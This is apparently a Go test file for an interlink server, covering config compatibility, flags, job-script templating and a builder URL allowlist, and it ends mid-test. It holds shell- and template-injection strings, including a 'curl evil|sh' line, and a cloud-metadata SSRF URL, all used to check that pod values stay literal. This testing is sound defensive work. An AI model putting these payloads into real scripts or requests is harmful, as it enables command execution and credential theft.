package functions

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/uuid"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/types"

	"github.com/seed-3f807049/interlink/functions/api"
	"github.com/seed-3f807049/interlink/observability/config"
	"github.com/seed-3f807049/interlink/sidecars/sim"
)

// loadFile loads a testdata config file with env set, as interlink does.
func loadFile(t *testing.T, path string, env map[string]string) (Config, []string, error) {
	t.Helper()
	for k, v := range env {
		t.Setenv(k, v)
	}
	cfg := DefaultConfig()
	unknown, err := config.Load(&cfg, path)
	return cfg, unknown, err
}

func has(list []string, sub string) bool {
	return slices.ContainsFunc(list, func(s string) bool { return strings.Contains(s, sub) })
}

// TestOriginalInterlinkConfigFiles loads config files written for the
// original interLink API server (testdata/original), one per form of its
// keys: each loads with the original's meaning, or is refused naming the key
// and what to use instead.
func TestOriginalInterlinkConfigFiles(t *testing.T) {
	insecure := map[string]string{"INTERLINK_AUTH_INSECURE": "true"}
	tests := []struct {
		file    string
		env     map[string]string
		refused []string // substrings of the start error; nil: loads
		check   func(t *testing.T, cfg Config, unknown []string)
	}{
		{file: "InterLinkConfig.yaml", env: insecure, check: func(t *testing.T, cfg Config, unknown []string) {
			listen, _ := cfg.Listen()
			urls, _ := cfg.SidecarURLs()
			_, level := cfg.LogSettings()
			pprof, _ := cfg.Pprof.Listen(DefaultPprofPort)
			if listen != "0.0.0.0:3000" || urls[DefaultSidecarName] != "http://plugin:4000" || level != "debug" || !cfg.Pprof.Enabled || pprof != "127.0.0.1:6061" {
				t.Errorf("listen %q sidecars %v level %q pprof %v %q", listen, urls, level, cfg.Pprof.Enabled, pprof)
			}
			if cfg.JobScriptTemplate != "testdata/original/job.sh.tmpl" {
				t.Errorf("JobScriptTemplate %q", cfg.JobScriptTemplate)
			}
			if diff := cmp.Diff([]string{"SbatchPath"}, unknown); diff != "" {
				t.Errorf("unknown keys (-want +got):\n%s", diff)
			}
			if w := cfg.CompatWarnings(); !has(w, "DataRootFolder has no effect") {
				t.Errorf("no DataRootFolder warning: %q", w)
			}
		}},
		// interlink always authenticates its callers; the original checks
		// no credential.
		{file: "InterLinkConfig.yaml", refused: []string{"no authentication configured", "Auth.StaticTokensFile"}},
		{file: "InterLinkConfig-https-mtls.yaml", check: func(t *testing.T, cfg Config, _ []string) {
			listen, _ := cfg.Listen()
			if listen != "0.0.0.0:3443" || !cfg.Auth.ClientCerts || cfg.TLS.CACertFile != "/etc/interlink/tls/ca.crt" {
				t.Errorf("listen %q, client certificates %v", listen, cfg.Auth.ClientCerts)
			}
			if w := cfg.CompatWarnings(); !has(w, "Auth.ClientCerts turned on") {
				t.Errorf("warnings %q", w)
			}
		}},
		{file: "InterLinkConfig-unix.yaml", env: insecure, check: func(t *testing.T, cfg Config, _ []string) {
			listen, _ := cfg.Listen()
			urls, _ := cfg.SidecarURLs()
			_, level := cfg.LogSettings()
			if listen != "unix:///var/run/interlink/interlink.sock" || urls[DefaultSidecarName] != "unix:///var/run/interlink/plugin.sock" || level != "error" {
				t.Errorf("listen %q sidecars %v level %q", listen, urls, level)
			}
		}},
		{file: "InterLinkConfig-0.3.0.yaml", env: insecure, check: func(t *testing.T, cfg Config, unknown []string) {
			w := cfg.CompatWarnings()
			if len(unknown) != 0 || !has(w, "ExportPodData has no effect") || !has(w, "DataRootFolder has no effect") {
				t.Errorf("unknown %q, warnings %q", unknown, w)
			}
		}},
		{file: "InterLinkConfig-jobscriptbuild.yaml", env: insecure, refused: []string{"JobScriptBuildConfig is set, but JobScriptBuilderURLs is empty"}},
		{file: "InterLinkConfig-jobscriptbuild.yaml", env: map[string]string{"INTERLINK_AUTH_INSECURE": "true", "INTERLINK_JOBSCRIPT_BUILDER_URLS": "http://builder:8080/build"},
			check: func(t *testing.T, cfg Config, _ []string) {
				raw, err := json.Marshal(cfg.JobScriptBuildConfig.wire())
				if err != nil {
					t.Fatal(err)
				}
				want := `{"SingularityHubProxy":{"server":"https://hub.example.org","master_token":"hub-token","cache_validity_seconds":500},` +
					`"ApptainerOptions":{"executable":"/usr/bin/apptainer","fakeroot":true,"containall":true,"fuseMode":"host-privileged","noInit":true,"noHome":true,"noPrivs":true,"nvidiaSupport":true,"cleanenv":true,"unsquash":true},` +
					`"Volumes":{"scratch_area":"/scratch","apptainer_cachedir":"/scratch/cache","image_dir":"/scratch/images","additional_directories_in_path":["/opt/bin","/usr/local/bin"],"fuse_sleep_seconds":3}}`
				if string(raw) != want {
					t.Errorf("jobConfig sent to the builder:\n got %s\nwant %s", raw, want)
				}
			}},
		// interlink serves TLS whatever the scheme (the original would serve
		// plain HTTP here).
		{file: "InterLinkConfig-http-tls.yaml", env: insecure, check: func(t *testing.T, cfg Config, _ []string) {
			_, srv, err := FromConfig(cfg, slog.New(slog.DiscardHandler), nil)
			if err != nil || srv.Listen != "0.0.0.0:3000" || srv.CertFile != "/etc/interlink/tls/tls.crt" || srv.KeyFile != "/etc/interlink/tls/tls.key" {
				t.Errorf("server %+v (%v), want TLS on 0.0.0.0:3000", srv, err)
			}
		}},
		{file: "InterLinkConfig-https-no-tls.yaml", env: insecure, refused: []string{"InterlinkAddress https://0.0.0.0 needs TLS.Enabled"}},
		{file: "InterLinkConfig-bad-schemes.yaml", env: insecure, refused: []string{`InterlinkAddress "tcp://0.0.0.0"`, `sidecar "default"`}},
	}
	for _, tt := range tests {
		name := strings.TrimSuffix(strings.TrimPrefix(tt.file, "InterLinkConfig"), ".yaml")
		if tt.refused != nil {
			name += "/refused"
		}
		t.Run(name, func(t *testing.T) {
			cfg, unknown, err := loadFile(t, "testdata/original/"+tt.file, tt.env)
			if tt.refused != nil {
				for _, want := range tt.refused {
					if err == nil || !strings.Contains(err.Error(), want) {
						t.Errorf("error %v does not say %q", err, want)
					}
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			tt.check(t, cfg, unknown)
		})
	}
}

// TestOriginalEnvOverrides: the original's variables override the file; an
// empty one does not, as in the original.
func TestOriginalEnvOverrides(t *testing.T) {
	cfg, _, err := loadFile(t, "testdata/original/InterLinkConfig.yaml", map[string]string{
		"INTERLINK_AUTH_INSECURE": "true",
		"INTERLINKURL":            "https://10.0.0.1",
		"INTERLINKPORT":           "3100",
		"SIDECARURL":              "http://sidecar.example",
		"SIDECARPORT":             "",
		"ENABLE_PPROF":            "true",
		"PPROF_ADDRESS":           "::1",
		"PPROF_PORT":              "7000",
		"INTERLINK_TLS_ENABLED":   "true",
		"INTERLINK_TLS_CERT_FILE": "/c",
		"INTERLINK_TLS_KEY_FILE":  "/k",
	})
	if err != nil {
		t.Fatal(err)
	}
	listen, _ := cfg.Listen()
	urls, _ := cfg.SidecarURLs()
	pprof, _ := cfg.Pprof.Listen(DefaultPprofPort)
	if listen != "10.0.0.1:3100" || urls[DefaultSidecarName] != "http://sidecar.example:4000" || pprof != "[::1]:7000" {
		t.Errorf("listen %q sidecars %v pprof %q", listen, urls, pprof)
	}
	// INTERLINKCONFIGPATH names the file when no flag does.
	args, _, err := ParseOriginalFlags(nil, func(string) string { return "/etc/x.yaml" }, func(string) bool { return true })
	if err != nil || len(args) != 0 {
		t.Fatalf("args %q %v", args, err)
	}
	flags, err := config.ParseFlags("interlink", args, "/etc/x.yaml")
	if err != nil || flags.Path != "/etc/x.yaml" {
		t.Errorf("config path %q %v", flags.Path, err)
	}
}

// TestOriginalTracingEnv: ENABLE_TRACING=1 and TELEMETRY_* are refused
// where interlink cannot honor them (OTLP/gRPC, client certificates), and
// warned about where they have no effect.
func TestOriginalTracingEnv(t *testing.T) {
	tests := []struct {
		name    string
		env     map[string]string
		refused []string
		warned  []string
	}{
		{"enable alone", map[string]string{"ENABLE_TRACING": "1"}, []string{"ENABLE_TRACING=1", "INTERLINK_TRACING_ENDPOINT"}, nil},
		{"enable with our endpoint", map[string]string{"ENABLE_TRACING": "1", "INTERLINK_TRACING_ENDPOINT": "http://collector:4318", "TELEMETRY_UNIQUE_ID": "site-a"}, nil, []string{"TELEMETRY_UNIQUE_ID ignored"}},
		{"grpc endpoint", map[string]string{"ENABLE_TRACING": "1", "INTERLINK_TRACING_ENDPOINT": "http://collector:4318", "TELEMETRY_ENDPOINT": "collector:4317"}, []string{"TELEMETRY_ENDPOINT: interlink cannot send spans over OTLP/gRPC"}, nil},
		{"client certificate", map[string]string{"ENABLE_TRACING": "1", "INTERLINK_TRACING_ENDPOINT": "http://c:4318", "TELEMETRY_CA_CRT_FILEPATH": "/ca", "TELEMETRY_CLIENT_CRT_FILEPATH": "/c", "TELEMETRY_CLIENT_KEY_FILEPATH": "/k"},
			[]string{"TELEMETRY_CA_CRT_FILEPATH, TELEMETRY_CLIENT_CRT_FILEPATH, TELEMETRY_CLIENT_KEY_FILEPATH"}, nil},
		{"telemetry without enable", map[string]string{"TELEMETRY_ENDPOINT": "collector:4317"}, nil, []string{"TELEMETRY_ENDPOINT have no effect without ENABLE_TRACING=1"}},
		{"enable not 1", map[string]string{"ENABLE_TRACING": "true"}, nil, []string{`ENABLE_TRACING="true" has no effect`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env := map[string]string{"INTERLINK_AUTH_INSECURE": "true"}
			for k, v := range tt.env {
				env[k] = v
			}
			cfg, _, err := loadFile(t, "", env)
			for _, want := range tt.refused {
				if err == nil || !strings.Contains(err.Error(), want) {
					t.Errorf("error %v does not say %q", err, want)
				}
			}
			if tt.refused == nil && err != nil {
				t.Fatal(err)
			}
			for _, want := range tt.warned {
				if w := cfg.CompatWarnings(); !has(w, want) {
					t.Errorf("warnings %q do not say %q", w, want)
				}
			}
		})
	}
}

// TestOriginalFlags: -interlinkconfigpath, -verbose, -errorsonly and
// -version are accepted next to our flags; the original's default config
// path is read when nothing names a file.
func TestOriginalFlags(t *testing.T) {
	tests := []struct {
		name    string
		args    []string
		env     string
		exists  bool
		want    []string
		flags   OriginalFlags
		wantErr string
	}{
		{name: "path", args: []string{"-interlinkconfigpath", "/etc/il.yaml"}, want: []string{"-config=/etc/il.yaml"}},
		{name: "path=", args: []string{"--interlinkconfigpath=/etc/il.yaml", "-config-test"}, want: []string{"-config=/etc/il.yaml", "-config-test"}},
		{name: "ours untouched", args: []string{"--config", "/x.yaml", "--config-test"}, exists: true, want: []string{"-config=/x.yaml", "-config-test"}},
		{name: "verbose", args: []string{"-verbose"}, flags: OriginalFlags{Verbose: true}},
		{name: "errorsonly", args: []string{"-errorsonly=true"}, flags: OriginalFlags{ErrorsOnly: true}},
		{name: "version", args: []string{"--version"}, flags: OriginalFlags{Version: true}},
		{name: "default path", exists: true, want: []string{"-config=" + OriginalConfigPath}, flags: OriginalFlags{DefaultPath: OriginalConfigPath}},
		{name: "env path wins over default", env: "/etc/env.yaml", exists: true},
		{name: "two paths", args: []string{"-config=/a", "-interlinkconfigpath=/b"}, wantErr: "both name a config file"},
		{name: "no path", args: []string{"-interlinkconfigpath"}, wantErr: "flag needs an argument: -interlinkconfigpath"},
		{name: "bad bool", args: []string{"-verbose=maybe"}, wantErr: "invalid boolean value \"maybe\" for -verbose"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, flags, err := ParseOriginalFlags(tt.args, func(string) string { return tt.env }, func(string) bool { return tt.exists })
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
					t.Errorf("error %v, want %q", err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(got, tt.want) || flags != tt.flags {
				t.Errorf("got %q %+v, want %q %+v", got, flags, tt.want, tt.flags)
			}
			if _, err := config.ParseFlags("interlink", got, ""); err != nil {
				t.Errorf("our flag parser refuses %q: %v", got, err)
			}
		})
	}
	// -verbose wins over the file, as the variables it sets do.
	_, flags, _ := ParseOriginalFlags([]string{"-verbose"}, func(string) string { return "" }, func(string) bool { return false })
	env := flags.Env()
	env["INTERLINK_AUTH_INSECURE"] = "true"
	cfg, _, err := loadFile(t, "testdata/original/InterLinkConfig-unix.yaml", env)
	if _, level := cfg.LogSettings(); err != nil || level != "debug" {
		t.Errorf("-verbose over ErrorsOnlyLogging: level %q %v", level, err)
	}
}

// scriptCapture is a sidecar that keeps what each create sent it.
type scriptCapture struct {
	*sim.Sidecar
	mu  sync.Mutex
	got []*api.RetrievedPodData
}

func (s *scriptCapture) Create(ctx context.Context, d *api.RetrievedPodData) (api.CreateResult, error) {
	s.mu.Lock()
	s.got = append(s.got, d)
	s.mu.Unlock()
	return s.Sidecar.Create(ctx, d)
}

func (s *scriptCapture) last(t *testing.T) *api.RetrievedPodData {
	t.Helper()
	s.mu.Lock()
	defer s.mu.Unlock()
	if len(s.got) == 0 {
		t.Fatal("nothing reached the sidecar")
	}
	return s.got[len(s.got)-1]
}

// scriptEnv serves a handler whose job scripts come from cfg.
func scriptEnv(t *testing.T, cfg Config) (string, *scriptCapture) {
	t.Helper()
	js, err := NewJobScripter(cfg)
	if err != nil {
		t.Fatal(err)
	}
	sc := &scriptCapture{Sidecar: newSim(t)}
	h, err := New(HandlerConfig{Sidecars: map[string]Sidecar{"default": sc}, Default: "default", JobScript: js.Fill})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	return srv.URL, sc
}

// hostilePod holds template code in every value the template prints.
func hostilePod() corev1.Pod {
	p := testPod("tmpl", "")
	p.UID = "3f8a1b2c-0000-4000-8000-000000000001"
	p.Annotations["note"] = `{{ .JobScriptBuild.SingularityHub.MasterToken }}`
	p.Spec.Containers[0].Command = []string{"sh", "-c", `echo {{ .Pod.UID }}`}
	p.Spec.Containers[0].Args = []string{`{{ template "x" }}`, `{{ printf "%s" .Pod.Name }}`, `$(id) {{/* */}}`}
	return p
}

// TestJobScriptTemplate renders testdata/original/job.sh.tmpl at create
// with the pod's data, into the jobScript the sidecar gets.
func TestJobScriptTemplate(t *testing.T) {
	cfg := DefaultConfig()
	cfg.JobScriptTemplate = "testdata/original/job.sh.tmpl"
	cfg.JobScriptBuildConfig.ApptainerOptions.Executable = "/usr/bin/apptainer"
	cfg.JobScriptBuildConfig.SingularityHub.MasterToken = "secret-token"
	url, sc := scriptEnv(t, cfg)
	pod := testPod("tmpl", "")
	pod.UID = "3f8a1b2c-0000-4000-8000-000000000001"
	pod.Annotations["note"] = "plain"
	pod.Spec.Containers[0].Args = []string{"a b", "$(id)"}
	pod.Spec.InitContainers = []corev1.Container{{Name: "init", Image: "busybox"}}
	if code, body := do(t, http.MethodPost, url+api.PathCreate, api.PodCreateRequests{Pod: pod}, false); code != 200 {
		t.Fatalf("create: %d %s", code, body)
	}
	want := `#!/bin/bash
# interLink job for pod default/tmpl (3f8a1b2c-0000-4000-8000-000000000001)
# init: 0 ConfigMaps, 0 Secrets
# main: 0 ConfigMaps, 0 Secrets
/usr/bin/apptainer exec docker://busybox 'a b' '$(id)'
printf 'annotation: %s\n' plain
`
	if diff := cmp.Diff(want, sc.last(t).JobScript); diff != "" {
		t.Errorf("jobScript (-want +got):\n%s", diff)
	}
}

// hostileValues are pod values that run a command (touch pwned-*) if a job
// script prints them as shell code.
var hostileValues = []string{
	"x\ntouch pwned-newline",
	"x\ncurl evil|sh",
	"$(touch pwned-subst)",
	"`touch pwned-backtick`",
	"'; touch pwned-squote; '",
	`"; touch pwned-dquote; "`,
	`\'; touch pwned-backslash #`,
	"x; touch pwned-semicolon & touch pwned-amp > pwned-redirect",
	"{{ .JobScriptBuild.SingularityHub.MasterToken }}",
	`{{ template "x" }}`,
	"~ * ? [a] {a,b} #x a=b",
	"\t\r\a\x1b[31m tab, CR, bell, escape",
	"",
}

// runBash runs script with bash in an empty directory and returns its
// standard output, failing the test if the script wrote any file there.
func runBash(t *testing.T, script string) string {
	t.Helper()
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Fatalf("bash is needed to run the rendered job script: %v", err)
	}
	dir := t.TempDir()
	cmd := exec.Command(bash, "--norc", "--noprofile", "-s") //nolint:gosec // the test's own script
	cmd.Dir = dir
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "LC_ALL=C", "HOME=" + dir}
	cmd.Stdin = strings.NewReader(script)
	var stdout, stderr strings.Builder
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Errorf("bash: %v\n%s\nscript:\n%s", err, stderr.String(), script)
	}
	if files, _ := os.ReadDir(dir); len(files) > 0 {
		t.Errorf("the job script ran a pod's value: it wrote %v\nscript:\n%s", files, script)
	}
	return stdout.String()
}

// TestJobScriptTemplateKeepsPodValuesLiteral: a pod value that looks like
// template or shell code is printed as it is, never executed, by the
// template or by bash running testdata/original/job.sh.tmpl, whose
// annotation line has no shellquote: interlink adds it.
func TestJobScriptTemplateKeepsPodValuesLiteral(t *testing.T) {
	cfg := DefaultConfig()
	cfg.JobScriptTemplate = "testdata/original/job.sh.tmpl"
	cfg.JobScriptBuildConfig.SingularityHub.MasterToken = "secret-token"
	cfg.JobScriptBuildConfig.ApptainerOptions.Executable = "true" // runs nothing
	url, sc := scriptEnv(t, cfg)
	if code, body := do(t, http.MethodPost, url+api.PathCreate, api.PodCreateRequests{Pod: hostilePod()}, false); code != 200 {
		t.Fatalf("create: %d %s", code, body)
	}
	got := sc.last(t).JobScript
	for _, literal := range []string{
		`'echo {{ .Pod.UID }}'`,
		`'{{ template "x" }}'`,
		`'{{ printf "%s" .Pod.Name }}'`,
		`'$(id) {{/* */}}'`,
		`printf 'annotation: %s\n' '{{ .JobScriptBuild.SingularityHub.MasterToken }}'`,
	} {
		if !strings.Contains(got, literal) {
			t.Errorf("jobScript lost the literal %s:\n%s", literal, got)
		}
	}
	if strings.Contains(got, "secret-token") || strings.Count(got, "3f8a1b2c") != 1 {
		t.Errorf("a pod value was executed as template code:\n%s", got)
	}
	for i, v := range hostileValues {
		pod := hostilePod()
		pod.Name = fmt.Sprintf("hostile-%d", i)
		pod.UID = types.UID(uuid.NewString())
		pod.Annotations["note"] = v
		if code, body := do(t, http.MethodPost, url+api.PathCreate, api.PodCreateRequests{Pod: pod}, false); code != 200 {
			t.Fatalf("create with note %q: %d %s", v, code, body)
		}
		if out := runBash(t, sc.last(t).JobScript); out != "annotation: "+v+"\n" {
			t.Errorf("note %q: bash printed %q", v, out)
		}
	}
}

// TestJobScriptTemplateQuotesEveryAction: every action that prints is
// shell-quoted, in if/else, range, with, define/template and block bodies,
// through variables and pipelines; an action already ending in shellquote
// is not quoted twice; raw prints the operator's text as it is. Bash prints
// each value back byte for byte.
func TestJobScriptTemplateQuotesEveryAction(t *testing.T) {
	tmpl := `{{ define "out" }}printf '%s\0' {{ . }}
{{ end -}}
{{ $n := index .Pod.Annotations "note" -}}
printf '%s\0' {{ $n }}
{{ if eq $n "never" }}{{ else }}printf '%s\0' {{ $n }}
{{ end -}}
{{ if $n }}printf '%s\0' {{ $n }}
{{ end -}}
{{ with .Pod.Annotations }}printf '%s\0' {{ .note }}
{{ end -}}
{{ range .Pod.Spec.Containers }}{{ range .Args }}printf '%s\0' {{ . }}
{{ end }}{{ end -}}
{{ range $i, $a := .Pod.Spec.Containers }}printf '%s\0' {{ printf "%s" (index $a.Args 0) }}
{{ else }}never
{{ end -}}
{{ template "out" $n }}
{{- block "blk" $n }}printf '%s\0' {{ . }}
{{ end -}}
printf '%s\0' {{ $n | shellquote }}
printf '%s\0' {{ shellquote $n }}
printf '%s\0' {{ len .Pod.Spec.Containers }}
{{ raw "printf '%s\\0' \"$((6*7))\"" }}
`
	path := filepath.Join(t.TempDir(), "job.tmpl")
	if err := os.WriteFile(path, []byte(tmpl), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg := DefaultConfig()
	cfg.JobScriptTemplate = path
	url, sc := scriptEnv(t, cfg)
	for i, v := range hostileValues {
		pod := testPod(fmt.Sprintf("every-%d", i), "")
		pod.Annotations["note"] = v
		pod.Spec.Containers[0].Args = []string{v, "plain"}
		if code, body := do(t, http.MethodPost, url+api.PathCreate, api.PodCreateRequests{Pod: pod}, false); code != 200 {
			t.Fatalf("create with %q: %d %s", v, code, body)
		}
		script := sc.last(t).JobScript
		out := runBash(t, script)
		want := []string{v, v, v, v, v, "plain", v, v, v, v, v, "1", "42", ""}
		if v == "" {
			want = slices.Delete(want, 2, 3) // {{ if $n }} is false
		}
		if diff := cmp.Diff(want, strings.Split(out, "\x00")); diff != "" {
			t.Errorf("value %q: bash printed (-want +got):\n%s\nscript:\n%s", v, diff, script)
		}
	}
}

// TestJobScriptTemplateRefusesNUL: a pod value bash cannot hold (a NUL byte)
// fails the create with a 400 naming the pod, without repeating the value.
func TestJobScriptTemplateRefusesNUL(t *testing.T) {
	cfg := DefaultConfig()
	cfg.JobScriptTemplate = "testdata/original/job.sh.tmpl"
	url, sc := scriptEnv(t, cfg)
	pod := testPod("nul", "")
	pod.Annotations["note"] = "a\x00secret"
	code, body := do(t, http.MethodPost, url+api.PathCreate, api.PodCreateRequests{Pod: pod}, false)
	if code != 400 || !strings.Contains(string(body), "pod default/nul: render JobScriptTemplate") ||
		!strings.Contains(string(body), "NUL") || strings.Contains(string(body), "secret") {
		t.Errorf("got %d %s, want 400 naming the pod and NUL, without the value", code, body)
	}
	if len(sc.got) != 0 {
		t.Error("the create reached the sidecar")
	}
}

// TestJobScriptTemplateErrors: a bad template stops the start naming its
// file and line; a render error or an oversized script fails the create
// with a message naming the pod, and nothing reaches the sidecar.
func TestJobScriptTemplateErrors(t *testing.T) {
	cfg := DefaultConfig()
	cfg.JobScriptTemplate = "testdata/original/job-bad.sh.tmpl"
	if _, err := NewJobScripter(cfg); err == nil || !strings.Contains(err.Error(), "testdata/original/job-bad.sh.tmpl:3") {
		t.Errorf("bad template: %v", err)
	}
	if _, _, err := load(t, "JobScriptTemplate: /nonexistent/job.tmpl\n", map[string]string{"INTERLINK_AUTH_INSECURE": "true"}); err == nil ||
		!strings.Contains(err.Error(), "JobScriptTemplate") || !strings.Contains(err.Error(), "/nonexistent/job.tmpl") {
		t.Errorf("missing template: %v", err)
	}
	for _, tt := range []struct {
		name, tmpl string
		max        int64
		want       string
	}{
		{"render error", `{{ index .Pod.Spec.Containers 5 }}`, 0, "pod default/tmpl: render JobScriptTemplate"},
		{"too large", `{{ range .Pod.Spec.Containers }}{{ .Name }}{{ end }}0123456789`, 8, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			path := dir + "/job.tmpl"
			if err := os.WriteFile(path, []byte(tt.tmpl), 0o600); err != nil {
				t.Fatal(err)
			}
			cfg := DefaultConfig()
			cfg.JobScriptTemplate = path
			if tt.max > 0 {
				cfg.JobScriptMaxBytes = tt.max
			}
			url, sc := scriptEnv(t, cfg)
			code, body := do(t, http.MethodPost, url+api.PathCreate, api.PodCreateRequests{Pod: testPod("tmpl", "")}, false)
			want := tt.want
			if tt.max > 0 {
				want = "pod default/tmpl: JobScriptTemplate " + path + " renders more than JobScriptMaxBytes (8 bytes)"
			}
			if code != 500 || !strings.Contains(string(body), want) {
				t.Errorf("got %d %s, want 500 saying %q", code, body, want)
			}
			if len(sc.got) != 0 {
				t.Error("the create reached the sidecar")
			}
		})
	}
}

// TestJobScriptBuilder: a create's jobscriptURL is called only when
// JobScriptBuilderURLs lists it; the builder gets the pod's data with the
// original's jobConfig, and its reply (capped, timed out, never
// redirected) is the jobScript.
func TestJobScriptBuilder(t *testing.T) {
	var calls, redirected atomic.Int64
	var gotBody []byte
	var gotSession string
	builder := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		switch r.URL.Path {
		case "/build":
			gotBody, _ = io.ReadAll(r.Body)
			gotSession = r.Header.Get(api.HeaderSession)
			_, _ = io.WriteString(w, "#!/bin/sh\necho built\n")
		case "/big":
			_, _ = io.WriteString(w, strings.Repeat("x", 2048))
		case "/slow":
			time.Sleep(500 * time.Millisecond)
		case "/redirect":
			http.Redirect(w, r, "/elsewhere", http.StatusFound)
		case "/elsewhere":
			redirected.Add(1)
		case "/fail":
			http.Error(w, "no builder today", http.StatusInternalServerError)
		}
	}))
	t.Cleanup(builder.Close)
	cfg, _, err := loadFile(t, "testdata/original/InterLinkConfig-jobscriptbuild.yaml", map[string]string{"INTERLINK_AUTH_INSECURE": "true",
		"INTERLINK_JOBSCRIPT_BUILDER_URLS": strings.Join([]string{builder.URL + "/build", builder.URL + "/big", builder.URL + "/slow", builder.URL + "/redirect", builder.URL + "/fail"}, ",")})
	if err != nil {
		t.Fatal(err)
	}
	cfg.JobScriptMaxBytes = 1024
	cfg.JobScriptBuilderTimeout = config.D(100 * time.Millisecond)
	url, sc := scriptEnv(t, cfg)

	create := func(jobscriptURL string) (int, string) {
		req, _ := json.Marshal(api.PodCreateRequests{Pod: testPod("built", ""), JobScriptURL: jobscriptURL})
		hr, _ := http.NewRequest(http.MethodPost, url+api.PathCreate, strings.NewReader(string(req)))
		hr.Header.Set(api.HeaderSession, "CreatePod#42")
		resp, err := http.DefaultClient.Do(hr)
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = resp.Body.Close() }()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	if code, body := create(builder.URL + "/build"); code != 200 {
		t.Fatalf("create: %d %s", code, body)
	}
	if got := sc.last(t).JobScript; got != "#!/bin/sh\necho built\n" {
		t.Errorf("jobScript %q", got)
	}
	var sent struct {
		Pod       corev1.Pod      `json:"pod"`
		JobConfig json.RawMessage `json:"jobConfig"`
	}
	if err := json.Unmarshal(gotBody, &sent); err != nil || sent.Pod.Name != "built" ||
		!strings.Contains(string(sent.JobConfig), `"fuseMode":"host-privileged"`) || !strings.Contains(string(sent.JobConfig), `"SingularityHubProxy"`) {
		t.Errorf("builder got %s (%v)", gotBody, err)
	}
	if gotSession != "CreatePod#42" {
		t.Errorf("session %q", gotSession)
	}

	sidecarCreates := len(sc.got)
	before := calls.Load()
	for _, tt := range []struct {
		name, url string
		code      int
		want      string
	}{
		{"not allowed", "http://169.254.169.254/latest/meta-data", 400, `jobscriptURL "http://169.254.169.254/latest/meta-data" is not listed in interlink's JobScriptBuilderURLs`},
		{"prefix of an allowed one", builder.URL + "/buil", 400, "JobScriptBuilderURLs"},
		{"too large", builder.URL + "/big", 503, "replied more than JobScriptMaxBytes (1024 bytes)"},
		{"timeout", builder.URL + "/slow", 503, "job script builder " + builder.URL + "/slow"},
		{"redirect", builder.URL + "/redirect", 503, "302 Found"},
		{"failing", builder.URL + "/fail", 503, "no builder today"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			code, body := create(tt.url)
			if code != tt.code || !strings.Contains(body, tt.want) || !strings.Contains(body, "pod default/built") {
				t.Errorf("got %d %s, want %d saying %q", code, body, tt.code, tt.want)
			}
		})
	}
	if calls.Load()-before != 4 || redirected.Load() != 0 || len(sc.got) != sidecarCreates {
		t.Errorf("builder calls %d (want 4), redirects followed %d, creates reaching the sidecar %d", calls.Load()-before, redirected.Load(), len(sc.got)-sidecarCreates)
	}

	// A jobscriptURL's query (a credential, perhaps) is not repeated.
	code, body := create("http://169.254.169.254/build?token=s3cret#frag")
	if code != 400 || !strings.Contains(body, `"http://169.254.169.254/build" is not listed`) || strings.Contains(body, "s3cret") || strings.Contains(body, "frag") {
		t.Errorf("got %d %s, want 400 without the query", code, body)
	}
}

// TestJobScriptURLWithoutBuilders: with no JobScriptBuilderURLs, a create
// naming a jobscriptURL is refused with 400 by the JobScript hook, whether
// FromConfig set it or New defaulted it: one message, one place.
func TestJobScriptURLWithoutBuilders(t *testing.T) {
	cfg, _, err := loadFile(t, "", map[string]string{"INTERLINK_AUTH_INSECURE": "true", "SIDECARURL": "http://127.0.0.1", "SIDECARPORT": "1"})
	if err != nil {
		t.Fatal(err)
	}
	fromConfig, _, err := FromConfig(cfg, slog.New(slog.DiscardHandler), nil)
	if err != nil {
		t.Fatal(err)
	}
	bare, err := New(HandlerConfig{Sidecars: map[string]Sidecar{"default": &scriptCapture{Sidecar: newSim(t)}}, Default: "default"})
	if err != nil {
		t.Fatal(err)
	}
	var bodies []string
	for _, h := range []http.Handler{fromConfig, bare} {
		srv := httptest.NewServer(h)
		t.Cleanup(srv.Close)
		pod := testPod("x", "")
		pod.UID = "3f8a1b2c-0000-4000-8000-000000000002"
		code, body := do(t, http.MethodPost, srv.URL+api.PathCreate, api.PodCreateRequests{Pod: pod, JobScriptURL: "http://builder/build?token=s3cret"}, false)
		if code != 400 || !strings.Contains(string(body), "calls no job script builder (its JobScriptBuilderURLs is empty)") || strings.Contains(string(body), "s3cret") {
			t.Errorf("got %d %s", code, body)
		}
		bodies = append(bodies, string(body))
	}
	if bodies[0] != bodies[1] {
		t.Errorf("FromConfig's handler and New's default answer differently:\n%s\n%s", bodies[0], bodies[1])
	}
}

// TestJobScriptBuilderURLsWithoutCredentials: a JobScriptBuilderURLs entry
// with user info, a query or a fragment is refused at start (credentials
// belong in a header), without repeating the credential; a builder URL is
// never logged with one.
func TestJobScriptBuilderURLsWithoutCredentials(t *testing.T) {
	for _, u := range []string{
		"http://builder:8080/build?token=s3cret",
		"http://builder:8080/build?",
		"http://builder:8080/build#s3cret",
		"http://builder:8080/build#",
		"http://user:s3cret@builder:8080/build",
		"ftp://builder/build",
		"/build",
	} {
		t.Run(u, func(t *testing.T) {
			_, _, err := loadFile(t, "", map[string]string{"INTERLINK_AUTH_INSECURE": "true", "INTERLINK_JOBSCRIPT_BUILDER_URLS": u})
